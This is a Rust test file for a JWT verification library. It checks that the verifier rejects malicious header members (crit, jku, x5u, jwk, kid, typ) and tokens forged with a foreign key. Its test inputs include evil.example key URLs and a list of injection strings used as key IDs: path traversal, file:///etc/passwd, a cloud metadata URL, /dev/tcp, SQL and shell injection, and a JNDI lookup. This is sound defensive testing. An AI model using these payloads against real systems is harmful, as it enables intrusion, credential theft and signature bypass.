//! Header members that would have a verifier fetch, trust, or look up something of the attacker's (RFC 8725 §3.10,
//! CVE-2018-0114), or read the token differently (`crit`, RFC 7515 §4.1.11; `b64`, RFC 7797).

use frontdesk_jwt::{Expectations, Header, KeySet, SigningKey, Token, verify};
use serde_json::{Value, json};

use super::{CLAIMS, HEADER, reason_with};
use crate::{NOW, claims, encode, reason, rsa_key, signed_text};

/// Another key, of whoever attacks.
fn foreign_key() -> &'static SigningKey {
    static KEY: std::sync::OnceLock<SigningKey> = std::sync::OnceLock::new();
    KEY.get_or_init(|| SigningKey::generate("key_1").unwrap())
}

#[test]
fn extensions_are_refused() {
    for crit in [
        r#"["exp"]"#,
        r#"["b64"]"#,
        r#"["http://openbanking.org.uk/iat"]"#,
        r#"["alg"]"#,
        r#"["unknown",""]"#,
        "[]",
        "[[]]",
        "[1]",
        "null",
        "\"exp\"",
        "{}",
        "false",
    ] {
        let header = format!(r#"{{"alg":"RS256","typ":"JWT","b64":false,"exp":1,"crit":{crit}}}"#);
        assert_eq!(reason(&signed_text(&header, CLAIMS)), "token-invalid", "{crit}");
        let escaped = format!(r#"{{"alg":"RS256","\u0063rit":{crit}}}"#);
        assert_eq!(reason(&signed_text(&escaped, CLAIMS)), "token-invalid", "{crit}");
    }
    // Inside other members it is nobody's business.
    assert_eq!(reason(&signed_text(r#"{"alg":"RS256","x":{"crit":["exp"]}}"#, CLAIMS)), "ok");
}

#[test]
fn an_unencoded_payload_is_not_understood() {
    // RFC 7797 wants `crit`; without it `b64` says nothing, and a payload that is not encoded is no base64url.
    let header = r#"{"alg":"RS256","b64":false}"#;
    assert_eq!(reason(&signed_text(header, CLAIMS)), "ok");
    let encoded = signed_text(header, CLAIMS);
    let parts: Vec<&str> = encoded.split('.').collect();
    assert_eq!(reason(&format!("{}.{CLAIMS}.{}", parts[0], parts[2])), "token-invalid");
    assert_eq!(reason(&format!("{}..{}", parts[0], parts[2])), "token-invalid", "detached");
}

#[test]
fn keys_and_addresses_in_the_header_are_not_looked_at() {
    let jwk = serde_json::to_value(foreign_key().public_jwk().unwrap()).unwrap();
    let members = json!({
        "jwk": jwk,
        "jku": "https://evil.example/jwks.json",
        "x5u": "https://evil.example/chain.pem",
        "x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"],
        "x5t": "dGVzdA",
        "x5t#S256": "dGVzdA",
        "cty": "JWT",
        "zip": "DEF",
        "enc": "A128GCM",
        "iss": "https://evil.example",
        "b64": true,
        "nonce": [1, { "deep": null }],
        "__proto__": { "alg": "none" },
        "constructor": 1,
    });
    let mut header = json!({ "alg": "RS256", "kid": "key_1", "typ": "JWT" });
    for (name, value) in members.as_object().unwrap() {
        header[name] = value.clone();
        let forged = sign_foreign(&header);
        assert_eq!(reason(&forged), "token-invalid-signature", "{name} with the key that it names");
        assert_eq!(
            reason_with(&forged, foreign_key().verifying_key()),
            "ok",
            "{name}: the forgery itself is sound"
        );
        assert_eq!(reason(&signed_text(header.to_string(), CLAIMS)), "ok", "{name} from our own signer");
    }
}

fn sign_foreign(header: &Value) -> String {
    use aws_lc_rs::signature::{RSA_PKCS1_SHA256, RsaKeyPair};
    let pair = RsaKeyPair::from_pkcs8(&foreign_key().to_pkcs8_der().unwrap()).unwrap();
    let message = format!("{}.{}", encode(header.to_string()), encode(CLAIMS));
    let mut signature = vec![0; pair.public_modulus_len()];
    let unused = aws_lc_rs::rand::SystemRandom::new();
    pair.sign(&RSA_PKCS1_SHA256, &unused, message.as_bytes(), &mut signature).unwrap();
    format!("{message}.{}", encode(signature))
}

#[test]
fn a_foreign_key_does_not_pass() {
    let token = foreign_key().sign(&Header::for_key(foreign_key()), &claims(json!({}))).unwrap();
    assert_eq!(reason(&token), "token-invalid-signature");
}

#[test]
fn a_key_id_is_a_name_and_nothing_else() {
    let mut keys = KeySet::new();
    keys.insert("key_1", rsa_key().verifying_key().clone());
    let with_kid = |kid: Value| signed_text(json!({ "alg": "RS256", "kid": kid }).to_string(), CLAIMS);
    assert_eq!(reason_with(&with_kid(json!("key_1")), &keys), "ok");
    assert_eq!(reason_with(&signed_text(r#"{"alg":"RS256","kid":"key\u005f1"}"#, CLAIMS), &keys), "ok");

    let long = "key_1".repeat(1_500);
    for kid in [
        "",
        "key_2",
        "KEY_1",
        "key_1 ",
        " key_1",
        "key_1\0",
        "key_1\0.pem",
        "key_1\n",
        "key_1/",
        "./key_1",
        "../../../../../../dev/null",
        "/dev/tcp/127.0.0.1/80",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "key_1' OR '1'='1",
        "x' UNION SELECT 'a2V5' -- ",
        "key_1; DROP TABLE signing_keys",
        "$(id)",
        "| /usr/bin/id",
        "{{7*7}}",
        "${jndi:ldap://evil.example/x}",
        "__proto__",
        "constructor",
        "ｋｅｙ_1",
        "kеy_1",
        "key_1\u{200b}",
        "key_1\u{301}",
        "*",
        "%",
        "key__",
        long.as_str(),
    ] {
        assert_eq!(reason_with(&with_kid(json!(kid)), &keys), "jwk-kid-mismatch", "{kid:.40?}");
        assert_eq!(reason(&with_kid(json!(kid))), "ok", "a single key has no id to compare: {kid:.40?}");
    }
    for kid in [json!(null), json!(1), json!(true), json!([]), json!(["key_1"]), json!({ "key_1": 1 })] {
        assert_eq!(reason_with(&with_kid(kid.clone()), &keys), "token-invalid", "{kid}");
    }
    assert_eq!(reason_with(&signed_text(r#"{"alg":"RS256"}"#, CLAIMS), &keys), "jwk-kid-mismatch");
    assert_eq!(reason_with(&with_kid(json!("key_1")), &KeySet::new()), "jwk-kid-mismatch");
}

#[test]
fn a_token_of_one_instance_is_nothing_to_another() {
    // Two instances, with and without the same id for their keys.
    let (ours, theirs) = (rsa_key(), foreign_key());
    let mut both = KeySet::new();
    both.insert("ours", ours.verifying_key().clone());
    both.insert("theirs", theirs.verifying_key().clone());
    let signed = |key: &SigningKey, kid: &str| {
        let mut header = Header::for_key(key);
        header.kid = Some(kid.to_owned());
        key.sign(&header, &claims(json!({}))).unwrap()
    };
    assert_eq!(reason_with(&signed(ours, "ours"), &both), "ok");
    assert_eq!(reason_with(&signed(theirs, "theirs"), &both), "ok");
    assert_eq!(reason_with(&signed(ours, "theirs"), &both), "token-invalid-signature");
    assert_eq!(reason_with(&signed(theirs, "ours"), &both), "token-invalid-signature");
    assert_eq!(reason_with(&signed(theirs, "key_1"), ours.verifying_key()), "token-invalid-signature");

    // Parts of two tokens, each signed for what it says.
    let (one, other) = (signed(ours, "ours"), signed_text(HEADER, CLAIMS));
    let parts = |token: &str| -> Vec<String> { token.split('.').map(str::to_owned).collect() };
    let (one, other) = (parts(&one), parts(&other));
    for mixed in
        [[&one[0], &other[1], &other[2]], [&one[0], &other[1], &one[2]], [&one[0], &one[1], &other[2]]]
    {
        let mixed = mixed.map(String::as_str).join(".");
        assert_eq!(reason(&mixed), "token-invalid-signature");
    }
}

/// RFC 8725 §3.11: a token for one purpose must not pass for another.
#[test]
fn the_kind_of_a_token_is_compared_to_the_letter() {
    for typ in [
        "jwt",
        "Jwt",
        "JWT ",
        "JWT\0",
        "application/jwt",
        "at+jwt",
        "secevent+jwt",
        "dpop+jwt",
        "JWE",
        "JOSE",
        "",
        "ЈWT",
    ] {
        let header = json!({ "alg": "RS256", "typ": typ }).to_string();
        assert_eq!(reason(&signed_text(&header, CLAIMS)), "token-invalid", "{typ:?}");
    }
    for typ in ["null", "1", "[]", "[\"JWT\"]", "{}", "true"] {
        let header = format!(r#"{{"alg":"RS256","typ":{typ}}}"#);
        assert_eq!(reason(&signed_text(&header, CLAIMS)), "token-invalid", "{typ}");
    }
    for cat in ["null", "1", "[\"cl_B7d4PD333AAA\"]"] {
        let header = format!(r#"{{"alg":"RS256","cat":{cat}}}"#);
        assert_eq!(reason(&signed_text(&header, CLAIMS)), "token-invalid", "{cat}");
    }
    let machine = signed_text(r#"{"alg":"RS256","cat":"cl_B7d4PD\u0033\u00333AAA"}"#, CLAIMS);
    assert_eq!(reason(&machine), "token-invalid", "escapes do not hide a category");
}

#[test]
fn an_odd_origin_time_counts_as_none() {
    let oiat = |oiat: &str| {
        let text = signed_text(format!(r#"{{"alg":"RS256","oiat":{oiat}}}"#), CLAIMS);
        let verified =
            verify::<Value>(&text, rsa_key().verifying_key(), &Expectations::default(), NOW).unwrap();
        assert_eq!(Token::decode(&text).unwrap().header(), &verified.header);
        verified.header.oiat
    };
    assert_eq!(oiat("1800000000"), Some(1_800_000_000));
    for odd in ["1.5", "\"1800000000\"", "null", "[]", "99999999999999999999"] {
        assert_eq!(oiat(odd), None, "{odd}");
    }
}
